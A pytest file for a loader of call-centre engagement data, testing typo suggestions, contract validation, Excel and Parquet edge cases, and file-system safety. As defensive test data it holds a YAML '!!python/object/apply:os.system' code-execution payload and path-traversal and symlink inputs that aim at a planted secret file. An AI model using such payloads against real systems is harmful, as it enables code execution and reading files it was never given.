def test_unknown_channel_and_kpi(tmp_path: Path) -> None:
    files = {
        "contacts.csv": CONTACTS_CSV + "u1,northcall,fax,2026-09-01 10:00:00,true,1,1,,\n",
        "reported_kpis.csv": "partner_id,month,kpi,value\nnorthcall,2026-09,asa,21\nnorthcall,2026-09,employee_nps,30\n",
    }
    eng = _load(tmp_path, files)
    rejected = eng.rejected.collect().sort("table")
    assert rejected.select("table", "row", "column").rows() == [("contacts", 5, "channel"), ("reported_kpis", 3, "kpi")]
    assert (
        rejected["reason"][0] == "unknown channel 'fax' (expected one of the contract's channels: voice, chat, email)"
    )
    assert rejected["reason"][1].startswith("unknown KPI 'employee_nps' (expected one of: offered, answered,")
    assert eng.table("reported_kpis").collect()["kpi"].to_list() == ["asa"]


def test_a_misspelt_value_gets_the_value_it_most_likely_meant(tmp_path: Path) -> None:
    """difflib's closest known value (similarity >= 0.6, case ignored) replaces the list of values."""
    files = {
        "contacts.csv": CONTACTS_CSV
        + "u1,northcall,vocie,2026-09-01 10:00:00,true,1,1,,\n"  # voice: 2·4/10 = 0.8
        + "u2,nortcall,voice,2026-09-01 10:00:00,true,1,1,,\n"  # northcall: 2·8/17 = 0.94
        + "u3,southdesk,Chat,2026-09-01 10:00:00,true,1,1,,\n"  # only the case differs
        + "u4,southdesk,sms,2026-09-01 10:00:00,true,1,1,,\n",  # close to nothing: the list
        "reported_kpis.csv": "partner_id,month,kpi,value\nnorthcall,2026-09,servce_level,0.8\nnorthcall,2026-09,csta,0.7\n",
        "actions.csv": "action_id,partner_id,committee,raised_on,owner_party,title\n"
        "a1,northcall,operationnal,2026-09-03,provider,Fix IVR\n",
    }
    eng = _load(tmp_path, files)
    rejected = eng.rejected.collect().sort("table", "row")
    assert rejected.select("table", "row", "column", "reason").rows() == [
        ("actions", 2, "committee", "unknown value 'operationnal' (did you mean 'operational'?)"),
        ("contacts", 5, "channel", "unknown channel 'vocie' (did you mean 'voice'?)"),
        ("contacts", 6, "partner_id", "unknown partner 'nortcall' (did you mean 'northcall'?)"),
        ("contacts", 7, "channel", "unknown channel 'Chat' (did you mean 'chat'? values are case-sensitive)"),
        (
            "contacts",
            8,
            "channel",
            "unknown channel 'sms' (expected one of the contract's channels: voice, chat, email)",
        ),
        ("reported_kpis", 2, "kpi", "unknown KPI 'servce_level' (did you mean 'service_level'?)"),
        ("reported_kpis", 3, "kpi", "unknown KPI 'csta' (did you mean 'csat'?)"),
    ]
    assert sorted(eng.contacts.collect()["contact_id"]) == VALID_IDS, "nothing guessed: the rows stay rejected"


def test_a_misspelt_service_level_of_a_relief_row_gets_the_partners_closest(tmp_path: Path) -> None:
    relief = (
        "partner_id,starts_at,ends_at,effect,reason,granted_by,granted_on,channel,service_level\n"
        "northcall,2026-09-01 00:00:00,2026-09-02 00:00:00,excuse_month,flood,client,2026-09-03,,service_level/vocie\n"
        "southdesk,2026-09-01 00:00:00,2026-09-02 00:00:00,excuse_month,flood,client,2026-09-03,,asa/voice\n"
    )
    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "relief.csv": relief})
    rejected = eng.rejected.collect().sort("row")
    assert _reasons(rejected) == {
        2: "unknown service level 'service_level/vocie' (did you mean 'service_level/voice'?)",
        # southdesk has no service level: asa/voice is northcall's, never suggested to another partner
        3: "unknown service level 'asa/voice' (expected one of the partner's service levels: none)",
    }


def test_did_you_mean_on_a_large_file_is_built_once_per_value(tmp_path: Path) -> None:
    rows = [
        f"c{i},northcall,{'vocie' if i % 100 == 0 else 'voice'},2026-09-01 09:00:00,true,1,1,," for i in range(5_000)
    ]
    eng = _load(tmp_path, {"contacts.csv": _csv(*rows)})
    rejected = eng.rejected.collect()
    assert rejected.height == 50 and set(rejected["reason"]) == {"unknown channel 'vocie' (did you mean 'voice'?)"}
    assert eng.contacts.select(pl.len()).collect().item() == 4_950


# --- the contract --------------------------------------------------------------------------------


def _contract_error(tmp_path: Path, capsys, data: dict | str) -> str:
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    if isinstance(data, str):
        (folder / "contract.yaml").write_text(data, encoding="utf-8")
    else:
        (folder / "contract.yaml").write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'contract.yaml'}: ")
    return err.removeprefix(f"error: {folder / 'contract.yaml'}: ")


def test_contract_missing_section(tmp_path: Path, capsys) -> None:
    c = contract()
    del c["partners"]
    assert _contract_error(tmp_path, capsys, c) == "partners: missing (required)"


def test_contract_wrong_type(tmp_path: Path, capsys) -> None:
    c = contract()
    c["partners"][0]["at_risk_pct"] = "twelve percent"
    assert _contract_error(tmp_path, capsys, c) == (
        "partners[0] (northcall).at_risk_pct: Input should be a valid decimal, got 'twelve percent'"
    )


def test_contract_yaml_tag_building_a_python_object(tmp_path: Path, capsys) -> None:
    marker = tmp_path / "pwned"
    text = yaml.safe_dump(contract(), sort_keys=False).replace(
        "client: Example Energy", f"client: !!python/object/apply:os.system ['touch {marker}']"
    )
    message = _contract_error(tmp_path, capsys, text)
    assert message.startswith("line 1, column 9: not valid YAML: could not determine a constructor for the tag")
    assert not marker.exists(), "the tag was never executed"


def test_contract_allocation_over_the_pool(tmp_path: Path, capsys) -> None:
    c = contract()
    c["partners"][0]["pool_pct"] = 0.5
    # 0.40 + 0.30 = 0.70 > 0.5
    assert _contract_error(tmp_path, capsys, c) == (
        "partners[0] (northcall): allocations add up to 0.7 which is over pool_pct 0.5 "
        "(expected the sum of allocation_pct at most pool_pct)"
    )


def test_contract_minimum_on_the_wrong_side(tmp_path: Path, capsys) -> None:
    c = contract()
    c["partners"][0]["service_levels"][1]["minimum"] = 0.03  # abandon_rate: lower is better, target 0.05
    assert _contract_error(tmp_path, capsys, c) == (
        "partners[0] (northcall).service_levels[1]: minimum 0.03 is on the wrong side of target 0.05: "
        "abandon_rate is lower-is-better, so the minimum must be at or above the target"
    )


# --- Excel ---------------------------------------------------------------------------------------

ACTIONS_HEADER = ["action_id", "partner_id", "committee", "raised_on", "owner_party", "title"]


def _actions_workbook(
    folder: Path, rows: list[list], *, name: str = "actions.xlsx", sheet: str = "Sheet1", at: str = "A1"
) -> Path:
    """An actions workbook written with openpyxl (formulas are stored without results)."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    top = ws[at]
    for r, values in enumerate([ACTIONS_HEADER, *rows]):
        for c, value in enumerate(values):
            if value is not None:
                ws.cell(row=top.row + r, column=top.column + c, value=value)
    path = folder / name
    book.save(path)
    return path


def _excel_engagement(tmp_path: Path, contract_data: dict | None = None) -> Path:
    return write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV}, contract_data)


def test_excel_sheet_missing(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path, contract(sources={"actions": {"sheet": "2027"}}))
    _actions_workbook(folder, [["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR"]], sheet="2026")
    err = _cli_error(folder, capsys)
    assert err == f"error: {folder / 'actions.xlsx'}: no sheet named '2027' in the workbook (sheets: 2026)"


def test_excel_merged_header_cells(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path)
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["action_id", "partner_id", "committee", "raised_on", "owner", None])  # "owner" merged over E1:F1
    ws.merge_cells("E1:F1")
    ws.append(["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR"])
    book.save(folder / "actions.xlsx")
    err = _cli_error(folder, capsys)
    assert f"{folder / 'actions.xlsx'}: owner_party: required column 'owner_party' of actions is missing" in err
    assert "(found: action_id, partner_id, committee, raised_on, owner, (empty);" in err
    assert err.endswith("empty header cells: each column needs its own header in the first row (merged cells?)")


def test_excel_title_row_above_the_header(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path)
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["Action log, exported 2026-09-30"])
    ws.merge_cells("A1:F1")
    ws.append(ACTIONS_HEADER)
    ws.append(["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR"])
    book.save(folder / "actions.xlsx")
    err = _cli_error(folder, capsys)
    assert (
        "required column 'action_id' of actions is missing (the first line names none of the columns of actions, "
        "so it is not shown;" in err
    )
    assert "Action log" not in err


def test_excel_header_below_empty_rows_keeps_spreadsheet_row_numbers(tmp_path: Path) -> None:
    folder = _excel_engagement(tmp_path)
    _actions_workbook(
        folder,
        [
            ["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR"],
            ["a2", "northcall", "weekly", "2026-09-03", "provider", "Hire"],
        ],
        at="B3",  # header in row 3, data from row 4, starting in column B
    )
    eng = pa.load(folder)
    assert eng.table("actions").collect()["action_id"].to_list() == ["a1"]
    assert eng.rejected.collect().select("row", "column").rows() == [(5, "committee")], (
        "row 5 as the spreadsheet shows it"
    )


def test_excel_formulas_with_stored_results_are_read(tmp_path: Path) -> None:
    folder = _excel_engagement(tmp_path)
    book = xlsxwriter.Workbook(folder / "actions.xlsx")
    ws = book.add_worksheet()
    ws.write_row(0, 0, ACTIONS_HEADER)
    ws.write_row(1, 0, ["a1", "northcall", "operational", "2026-09-03", "provider"])
    ws.write_formula(1, 5, '="Fix "&"IVR"', None, "Fix IVR")  # the result Excel would have stored
    book.close()
    eng = pa.load(folder)
    assert eng.table("actions").collect()["title"].to_list() == ["Fix IVR"] and eng.rejected.collect().height == 0


def test_excel_formulas_without_stored_results(tmp_path: Path) -> None:
    folder = _excel_engagement(tmp_path)
    _actions_workbook(
        folder,
        [
            ["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR"],
            ["a2", "northcall", "operational", "2026-09-03", "provider", '="Hire "&"agents"'],
            ["a3", "northcall", "operational", "=DATE(2026,9,3)", "provider", "Train"],
            ["a4", "northcall", "operational", "2026-09-04", "provider", "Audit"],
        ],
    )
    eng = pa.load(folder)
    assert eng.table("actions").collect()["action_id"].to_list() == ["a1", "a4"]
    rejected = eng.rejected.collect().sort("row")
    assert rejected.select("row", "column").rows() == [(3, "title"), (4, "raised_on")]
    assert rejected["reason"].to_list() == [
        "cell F3 holds a formula whose result was never stored (open and save the workbook in Excel or LibreOffice, which stores the results)",
        "cell D4 holds a formula whose result was never stored (open and save the workbook in Excel or LibreOffice, which stores the results)",
    ]


def test_excel_error_values(tmp_path: Path) -> None:
    folder = _excel_engagement(tmp_path)
    book = xlsxwriter.Workbook(folder / "forecasts.xlsx")
    ws = book.add_worksheet()
    ws.write_row(0, 0, ["partner_id", "channel", "month", "forecast_contacts"])
    ws.write_row(1, 0, ["northcall", "voice", "2026-10", 1000])
    ws.write_row(2, 0, ["northcall", "chat", "2026-10"])
    ws.write_formula(2, 3, "=1/0", None, "#DIV/0!")
    ws.write_row(3, 0, ["northcall", "email", "2026-10", 50])
    book.close()
    eng = pa.load(folder)
    assert eng.table("forecasts").collect()["channel"].to_list() == ["voice", "email"]
    got = eng.rejected.collect().row(0, named=True)
    assert (got["row"], got["column"]) == (3, "forecast_contacts")
    assert got["reason"] == "cell D3 holds the error #DIV/0! (expected a value: fix the formula or its inputs)"


def test_excel_empty_sheet(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path)
    openpyxl.Workbook().save(folder / "actions.xlsx")
    err = _cli_error(folder, capsys)
    assert err.endswith(
        "actions.xlsx: action_id: required column 'action_id' of actions is missing (found: no header; map another header to it under sources.actions.columns)"
    )


def test_excel_duplicated_header(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path)
    book = openpyxl.Workbook()
    ws = book.active
    ws.append([*ACTIONS_HEADER, "title"])
    ws.append(["a1", "northcall", "operational", "2026-09-03", "provider", "Fix IVR", "Other"])
    book.save(folder / "actions.xlsx")
    err = _cli_error(folder, capsys)
    assert err.endswith("actions.xlsx: header 'title' appears more than once (expected unique headers)")


def test_excel_file_that_is_not_a_workbook(tmp_path: Path, capsys) -> None:
    folder = _excel_engagement(tmp_path)
    (folder / "actions.xlsx").write_text("action_id,partner_id\n", encoding="utf-8")
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'actions.xlsx'}: cannot read the xlsx file: ")


# --- Parquet -------------------------------------------------------------------------------------


def _parquet_contacts(**columns: pl.Series | list) -> pl.DataFrame:
    base = {
        "contact_id": ["p1", "p2", "p3"],
        "partner_id": ["northcall"] * 3,
        "channel": ["voice"] * 3,
        "arrived_at": [dt.datetime(2026, 9, 1, 9, 0)] * 3,
        "answered": [True, False, True],
        "wait_s": [1.0, 2.0, 3.0],
    }
    return pl.DataFrame(base | columns)


def test_parquet_column_of_an_impossible_type(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts(arrived_at=[1_788_000_000, 1_788_000_060, 1_788_000_120]).write_parquet(
        folder / "contacts.parquet"
    )
    err = _cli_error(folder, capsys)
    assert (
        err
        == f"error: {folder / 'contacts.parquet'}: arrived_at: column 'arrived_at' has type Int64 (expected a datetime, or text)"
    )


def test_parquet_columns_of_other_readable_types(tmp_path: Path) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts(
        partner_id=pl.Series(["northcall"] * 3, dtype=pl.Categorical()),
        wait_s=["1.5", "x", "3"],  # text: parsed as a CSV value would be
        answered=pl.Series([1, 0, 2], dtype=pl.Int8()),  # 0/1 only
        arrived_at=["2026-09-01 09:00:00"] * 3,
        csat=[5.0, 4.0, 3.0],
    ).write_parquet(folder / "contacts.parquet")
    eng = pa.load(folder)
    df = eng.contacts.collect()
    assert df["contact_id"].to_list() == ["p1"] and df["wait_s"].to_list() == [1.5] and df["csat"].to_list() == [5]
    assert df["answered"].to_list() == [True] and df["arrived_at"][0] == dt.datetime(2026, 9, 1, 9, 0, tzinfo=PARIS)
    rejected = eng.rejected.collect().sort("row")
    assert rejected.select("row", "column").rows() == [(2, "wait_s"), (3, "answered")]
    assert rejected["reason"].to_list() == [
        "cannot read 'x' as a number",
        "cannot read '2' as true/false, 1/0, yes/no or oui/non",
    ]


def test_parquet_missing_required_column(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts().drop("wait_s").write_parquet(folder / "contacts.parquet")
    err = _cli_error(folder, capsys)
    assert (
        f"{folder / 'contacts.parquet'}: wait_s: required column 'wait_s' of contacts is missing (found: contact_id, partner_id, channel, arrived_at, answered;"
        in err
    )


def test_parquet_extra_columns(tmp_path: Path) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts(agent=["a", "b", "c"], cost=[1, 2, 3]).write_parquet(folder / "contacts.parquet")
    eng = pa.load(folder)
    assert eng.contacts.collect().height == 3
    assert eng.warnings == (
        f"{folder / 'contacts.parquet'}: columns not in the data contract were left out: agent, cost",
    )


def test_parquet_truncated(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts().write_parquet(folder / "full.parquet")
    data = (folder / "full.parquet").read_bytes()
    (folder / "full.parquet").unlink()
    (folder / "contacts.parquet").write_bytes(data[: len(data) // 2])
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'contacts.parquet'}: cannot read the parquet file: ")


def test_parquet_is_scanned_lazily(tmp_path: Path) -> None:
    """A file whose footer is sound but whose data is damaged loads: the loader reads no row of it."""
    folder = write_engagement(tmp_path / "eng", {})
    path = folder / "contacts.parquet"
    _parquet_contacts(note=["x" * 5000] * 3).write_parquet(path, compression="uncompressed")
    data = bytearray(path.read_bytes())
    at = data.index(b"x" * 5000)
    data[at : at + 5000] = b"\xff" * 5000
    path.write_bytes(bytes(data))
    eng = pa.load(folder)  # schema from the footer only
    assert eng.present["contacts"] >= {"contact_id", "wait_s"}
    assert eng.contacts.select("contact_id").collect()["contact_id"].to_list() == ["p1", "p2", "p3"]


# --- the file system -----------------------------------------------------------------------------


def test_table_file_is_a_folder(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    (folder / "contacts.csv").mkdir()
    err = _cli_error(folder, capsys)
    assert err == f"error: {folder / 'contacts.csv'}: a folder, not a file (expected a .csv, .parquet or .xlsx file)"


def test_sources_path_is_a_folder_without_parquet_files(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {}, contract(sources={"contacts": {"path": "exports"}}))
    (folder / "exports").mkdir()
    (folder / "exports" / "contacts.csv").write_text("contact_id\n", encoding="utf-8")
    err = _cli_error(folder, capsys)
    assert err == (
        f"error: {folder / 'exports'}: no .parquet file in the folder given for table contacts (expected one per month)"
    )


@pytest.mark.parametrize("target", ["contacts.csv", "nowhere.csv"], ids=["symlink_loop", "dangling_symlink"])
def test_symbolic_link_that_leads_nowhere(tmp_path: Path, capsys, target: str) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    (folder / "contacts.csv").symlink_to(folder / target)
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'contacts.csv'}: a symbolic link that leads nowhere")


def test_symbolic_link_to_a_file_in_the_folder_is_followed_and_recorded_where_it_leads(tmp_path: Path) -> None:
    folder = write_engagement(tmp_path / "eng", {"exports/interactions.csv": CONTACTS_CSV})
    (folder / "contacts.csv").symlink_to(folder / "exports" / "interactions.csv")
    eng = pa.load(folder)
    assert eng.contacts.collect().height == 3
    record = lineage(eng)
    assert [(i["table"], i["file"]) for i in record["inputs"]] == [("contacts", "exports/interactions.csv")]


# --- files outside the engagement folder ---------------------------------------------------------


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Every path opened through pathlib from the moment the test clears it (readers open files that way)."""
    paths: list[Path] = []
    real_open = Path.open

    def recording(self: Path, *args, **kwargs):
        paths.append(self.resolve())
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", recording)
    return paths


def _secret(tmp_path: Path) -> Path:
    """A file beside the engagement, not in it: a CSV whose first line is a secret."""
    path = tmp_path / "secret.csv"
    path.write_text("password=hunter2\n" + CONTACTS_CSV, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "given", ["../secret.csv", "exports/../../secret.csv", "ABSOLUTE"], ids=["dotdot", "deep", "abs"]
)
def test_sources_path_outside_the_folder_is_refused(tmp_path: Path, capsys, opened: list[Path], given: str) -> None:
    secret = _secret(tmp_path)
    given = str(secret) if given == "ABSOLUTE" else given
    folder = write_engagement(tmp_path / "eng", {}, contract(sources={"contacts": {"path": given}}))
    opened.clear()
    err = _cli_error(folder, capsys)
    assert err == (
        f"error: {folder / 'contract.yaml'}: sources.contacts.path: {given!r} leads outside the engagement folder "
        f"(it resolves to {str(secret)!r}): files outside {folder} are not read; move the file into the folder, "
        "or allow it (--allow-outside; load(..., allow_outside=True))"
    )
    assert "hunter2" not in err and secret not in opened


def test_symbolic_link_leading_outside_is_refused(tmp_path: Path, capsys, opened: list[Path]) -> None:
    secret = _secret(tmp_path)
    folder = write_engagement(tmp_path / "eng", {})
    (folder / "contacts.csv").symlink_to(secret)
    opened.clear()
    err = _cli_error(folder, capsys)
    assert err.startswith(
        f"error: {folder / 'contacts.csv'}: a symbolic link leading outside the engagement folder "
        f"(it resolves to {str(secret)!r}): files outside {folder} are not read"
    )
    assert secret not in opened


def test_sources_path_through_a_linked_folder_leading_outside_is_refused(tmp_path: Path, capsys) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "interactions.csv").write_text(CONTACTS_CSV, encoding="utf-8")
    folder = write_engagement(
        tmp_path / "eng", {}, contract(sources={"contacts": {"path": "exports/interactions.csv"}})
    )
    (folder / "exports").symlink_to(tmp_path / "elsewhere")
    err = _cli_error(folder, capsys)
    assert err.startswith(
        f"error: {folder / 'contract.yaml'}: sources.contacts.path: 'exports/interactions.csv' leads outside "
        f"the engagement folder (it resolves to {str(tmp_path / 'elsewhere' / 'interactions.csv')!r})"
    )


def test_contract_linked_from_outside_is_refused(tmp_path: Path, capsys) -> None:
    (tmp_path / "shared.yaml").write_text(yaml.safe_dump(contract()), encoding="utf-8")
    folder = tmp_path / "eng"
    folder.mkdir()
    (folder / "contacts.csv").write_text(CONTACTS_CSV, encoding="utf-8")
    (folder / "contract.yaml").symlink_to(tmp_path / "shared.yaml")
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'contract.yaml'}: a symbolic link leading outside the engagement folder")


def test_files_outside_read_when_allowed_and_recorded_where_they_are(tmp_path: Path, capsys) -> None:
    (tmp_path / "shared.csv").write_text(CONTACTS_CSV, encoding="utf-8")
    folder = write_engagement(tmp_path / "eng", {}, contract(sources={"contacts": {"path": "../shared.csv"}}))
    eng = pa.load(folder, allow_outside=True)
    assert sorted(eng.contacts.collect()["contact_id"].to_list()) == VALID_IDS
    assert [i["file"] for i in lineage(eng)["inputs"]] == [str(tmp_path / "shared.csv")]
    assert main(["check", "--engagement", str(folder), "--allow-outside"]) == 0
    out = tmp_path / "tables"
    assert main(["tables", "--engagement", str(folder), "--allow-outside", "--out", str(out)]) == 0
    capsys.readouterr()
    record = json.loads((out / "lineage.json").read_text())
    assert record["inputs"][0]["file"] == str(tmp_path / "shared.csv")


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads files whatever their permissions")
def test_unreadable_file(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    (folder / "contacts.csv").chmod(0)
    try:
        err = _cli_error(folder, capsys)
    finally:
        (folder / "contacts.csv").chmod(0o644)
    assert (
        err == f"error: {folder / 'contacts.csv'}: cannot open the file: Permission denied (check that it can be read)"
    )


def test_unreadable_file_as_the_system_reports_it(tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same case where it can be tested as root: opening the file fails with EACCES."""
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    real_open = Path.open

    def refuse(self: Path, *args, **kwargs):
        if self.name == "contacts.csv":
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    err = _cli_error(folder, capsys)
    assert (
        err == f"error: {folder / 'contacts.csv'}: cannot open the file: Permission denied (check that it can be read)"
    )


# --- size ----------------------------------------------------------------------------------------


def test_a_block_of_rejected_rows_deep_in_a_large_file(tmp_path: Path) -> None:
    """10,000 rows with 120 unknown partners from row 3,002: every reason is built (polars' `pl.format` panics here)."""
    rows = [
        f"c{i},{'acme' if 3000 <= i < 3120 else 'northcall'},voice,2026-09-01 09:00:00,true,{i % 90},1,,"
        for i in range(10_000)
    ]
    eng = _load(tmp_path, {"contacts.csv": _csv(*rows)})
    rejected = eng.rejected.collect()
    assert rejected["row"].to_list() == list(range(3002, 3122)), "row = index + 2 (the header is row 1)"
    assert set(rejected["reason"]) == {
        "unknown partner 'acme' (expected one of the contract's partners: northcall, southdesk)"
    }
    # 10,000 - 120 rows kept; their waits are i % 90 over the kept i.
    kept = eng.contacts.select(pl.len(), pl.col("wait_s").sum()).collect().row(0)
    assert kept == (9_880, float(sum(i % 90 for i in range(10_000) if not 3000 <= i < 3120)))
